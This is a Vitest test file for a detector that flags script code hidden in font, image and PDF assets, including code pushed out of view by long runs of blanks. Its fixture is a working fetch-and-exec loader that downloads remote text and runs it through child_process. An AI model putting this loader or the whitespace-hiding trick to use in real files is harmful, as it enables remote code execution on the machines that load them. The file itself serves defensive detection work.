import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './js-in-asset.ts';

describe('js-in-asset', () => {
  const script = `const c = require('child_process'); fetch(u).then((r) => r.text()).then((t) => c.exec(t)); // ${'x'.repeat(400)}`;
  it.each([
    ['a font', 'public/fonts/fa-solid-400.woff2', 'javascript'],
    ['a font behind blanks', 'public/fonts/a.ttf', 'javascript'],
    ['an image', 'assets/logo.png', 'javascript'],
    ['an image that no kind claims', 'assets/logo.jpg', 'text'],
    ['a document', 'docs/brief.pdf', 'shell'],
  ] as const)('%s', (_name, file, kind) => {
    const text = file.endsWith('.ttf') ? `${' '.repeat(2000)}${script}` : script;
    expect(fileHits(detector, file, text, { kind })).toEqual(['proof@1']);
  });
  it('an executable', () => {
    expect(fileHits(detector, 'img/a.png', new Uint8Array(100), { kind: 'pe' })).toEqual(['strong@1']);
  });
  it.each([
    ['a real font', 'a.woff2', 'wOF2\u0000', 'woff2'],
    [
      'a pointer of git-lfs',
      'a.png',
      'version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 12345\n',
      'text',
    ],
    ['a saved page', 'a.woff', `<!DOCTYPE html><script>${script}</script>`, 'html'],
    ['a stand-in', 'a.png', 'module.exports = __webpack_public_path__ + "a.png"; // made by the bundler', 'javascript'],
    ['an empty file', 'a.ico', '', 'empty'],
    ['text', 'a.pdf', 'This document will be added later, when it is ready. '.repeat(20), 'text'],
    ['a drawing', 'a.png', '<svg xmlns="x"><!-- a --></svg>'.repeat(20), 'svg'],
    ['a script', 'a.js', script, 'javascript'],
  ] as const)('leaves %s alone', (_name, file, text, kind) => {
    expect(fileHits(detector, file, text, { kind })).toEqual([]);
  });
});
